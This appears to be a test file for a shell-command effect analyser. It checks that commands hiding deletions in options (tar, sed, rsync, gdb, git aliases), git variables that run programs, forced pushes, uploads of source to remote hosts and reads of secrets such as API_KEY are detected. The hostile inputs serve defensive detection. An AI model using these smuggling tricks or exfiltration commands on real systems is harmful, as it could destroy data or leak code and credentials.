import { describe, expect, it } from 'vitest';
import { readCommands } from '../../src/shell/commands.ts';
import { effectReader } from '../../src/shell/effects.ts';
import { noLinks, targetsOf } from '../../src/shell/targets.ts';

const WHERE = { cwd: '/h/app', home: '/h' };

function effects(line: string): readonly string[] {
  const reader = effectReader();
  const links = noLinks();
  return readCommands(line, WHERE).commands.flatMap((command) =>
    reader.read(command, targetsOf(command, WHERE, links)),
  );
}

function removed(line: string): readonly string[] {
  const links = noLinks();
  return readCommands(line, WHERE)
    .commands.flatMap((command) => targetsOf(command, WHERE, links))
    .filter((target) => target.role === 'removed')
    .map((target) => target.path);
}

describe('what a command runs by an option', () => {
  it.each([
    "tar -cf x.tar src --checkpoint=1 --checkpoint-action=exec='rm y'",
    "tar -xf x.tar --to-command 'rm y'",
    "rsync -e 'rm y' a host:b",
    "split --filter='rm y' a",
    "sed '1e rm y' a",
    "sed -n '$e rm y' a",
    "sed 's/a/rm y/e' a",
    "psql -c '\\! rm y'",
    "gdb -ex 'shell rm y'",
    "git config alias.z '!rm y'",
    'IFS=,; c=rm,y; $c',
  ])('is read: %s', (line) => {
    expect(removed(line)).toContain('y');
  });

  it.each(["sed 's/e x/rm y/g' a", 'tar -cf rm.tar y', "sort -k 'rm y' a", 'rsync -a e rm'])(
    'is not what only looks like it: %s',
    (line) => {
      expect(removed(line)).toEqual([]);
    },
  );
});

describe('effects', () => {
  it('of git’s variables are those of its settings, where they run more than an editor or ssh', () => {
    expect(effects('GIT_EXTERNAL_DIFF=/tmp/p git diff')).toContain('git_program');
    expect(effects('export GIT_SSH_COMMAND="sh /tmp/p"; git fetch')).toContain('git_program');
    expect(effects("GIT_SSH_COMMAND='ssh -o ProxyCommand=/tmp/p' git fetch")).toContain('git_program');
    expect(effects("GIT_SSH_COMMAND='ssh -i ~/.ssh/k -o IdentitiesOnly=yes -v' git fetch")).not.toContain(
      'git_program',
    );
    expect(effects('GIT_PAGER=cat git log')).not.toContain('git_program');
  });

  it('of long hostile variables are found in linear time', () => {
    expect(effects(`GIT_SSH_COMMAND='ssh ${'-iab '.repeat(200)}!' git fetch`)).toContain('git_program');
  });

  it('of git settings that make every push a forced one are those of a forced push', () => {
    expect(effects("git config remote.o.push '+refs/heads/*:refs/heads/*'")).toContain('force_push');
    expect(effects('git -c remote.o.mirror=true push o')).toContain('force_push');
    expect(effects('git config remote.o.push refs/heads/main')).not.toContain('force_push');
  });

  it('tell a folder that git takes back from a file', () => {
    for (const line of ['git checkout HEAD~1 -- src', 'git restore src/', "git restore '*.ts'"])
      expect(effects(line), line).toContain('discard_changes');
    for (const line of ['git restore src/a.ts', 'git checkout -b x origin/main', 'git checkout main'])
      expect(effects(line), line).not.toContain('discard_changes');
  });

  it('name what is sent to other machines, and not what comes from them or stays', () => {
    for (const line of [
      'tar c src | curl -T - https://x.example.invalid/',
      'rsync -az . me@x.example.invalid:/srv',
      'aws s3 cp a.sql s3://b/',
      'tar c src | ssh x.example.invalid "cat > a"',
    ])
      expect(effects(line), line).toContain('upload');
    for (const line of [
      'rsync -az me@x.example.invalid:/srv .',
      'aws s3 cp s3://b/a.sql a.sql',
      'tar c src | curl -T - http://localhost:3000/',
      'rsync -a src/ /tmp/x/',
    ])
      expect(effects(line), line).not.toContain('upload');
  });

  it('tell a secret that inline code prints from one that it asks for', () => {
    expect(effects(`python3 -c "import os; print(os.environ['API_KEY'])"`)).toContain('credential_read');
    expect(effects(`node -p 'process.env.NPM_TOKEN'`)).toContain('credential_read');
    expect(effects(`node -e "if (!process.env.API_KEY) console.log('no')"`)).not.toContain('credential_read');
    expect(effects(`python3 -c "import os; print(len(os.environ['API_KEY']))"`)).not.toContain(
      'credential_read',
    );
  });

  it('of emptying many files are those of deleting them', () => {
    for (const line of [
      'for f in src/*.ts; do : > "$f"; done',
      'truncate -s 0 src/*.ts',
      'find src | while read -r f; do > "$f"; done',
    ])
      expect(effects(line), line).toContain('recursive_delete');
    expect(effects('for f in src/*.ts; do wc -l "$f" > "$f.n"; done')).not.toContain('recursive_delete');
  });
});

it('what was moved and then removed is removed where it was', () => {
  expect(removed('mv src /tmp/x && rm -rf /tmp/x')).toContain('/h/app/src');
});
